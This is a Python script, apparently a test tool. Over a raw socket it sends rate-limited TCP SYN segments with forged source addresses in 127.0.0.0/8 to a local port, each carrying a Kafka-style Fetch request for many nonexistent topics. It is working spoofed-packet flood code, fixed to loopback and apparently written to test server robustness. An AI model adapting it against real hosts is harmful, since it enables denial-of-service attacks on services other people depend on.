"""Sends TCP segments with SYN and a Fetch request without a handshake, as any host could.

    forged.py PORT SECONDS RATE

Sends to a port of 127.0.0.1, from addresses in 127.0.0.0/8. Prints the number of segments sent.
"""
import random
import socket
import struct
import sys
import time

PARTITIONS = 84


def text(value: bytes) -> bytes:
    return struct.pack(">h", len(value)) + value


def fetch() -> bytes:
    """Fetch v0 of many partitions of topics that do not exist."""
    topics = b"".join(
        text(b"forged-%016x" % random.getrandbits(64)) + struct.pack(">iiqi", 1, 0, 0, 1 << 20)
        for _ in range(PARTITIONS)
    )
    body = struct.pack(">hhi", 1, 0, random.getrandbits(31)) + text(b"forger")
    body += struct.pack(">iii", -1, 500, 1) + struct.pack(">i", PARTITIONS) + topics
    return struct.pack(">i", len(body)) + body


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def segment(source: bytes, destination: bytes, port: int, payload: bytes) -> bytes:
    syn, header_words = 2, 5
    ports = struct.pack(">HH", random.randrange(1024, 65536), port)
    numbers = struct.pack(">II", random.getrandbits(32), 0)
    head = ports + numbers + struct.pack(">BBHHH", header_words << 4, syn, 65535, 0, 0)
    pseudo = source + destination + struct.pack(">BBH", 0, socket.IPPROTO_TCP, len(head) + len(payload))
    tcp = head[:16] + struct.pack(">H", checksum(pseudo + head + payload)) + head[18:] + payload
    ip = struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(tcp), random.getrandbits(16), 0, 64, socket.IPPROTO_TCP, 0)
    return ip + source + destination + tcp


def main() -> None:
    port, seconds, rate = int(sys.argv[1]), float(sys.argv[2]), float(sys.argv[3])
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    destination = socket.inet_aton("127.0.0.1")
    payloads = [fetch() for _ in range(64)]
    sent, begun = 0, time.monotonic()
    while (passed := time.monotonic() - begun) < seconds:
        if sent > rate * passed:
            time.sleep(0.001)
            continue
        source = struct.pack(">BBBB", 127, random.randrange(1, 255), random.randrange(256), random.randrange(1, 255))
        try:
            raw.sendto(segment(source, destination, port, random.choice(payloads)), ("127.0.0.1", 0))
            sent += 1
        except OSError:
            time.sleep(0.001)
    print(sent)


main()
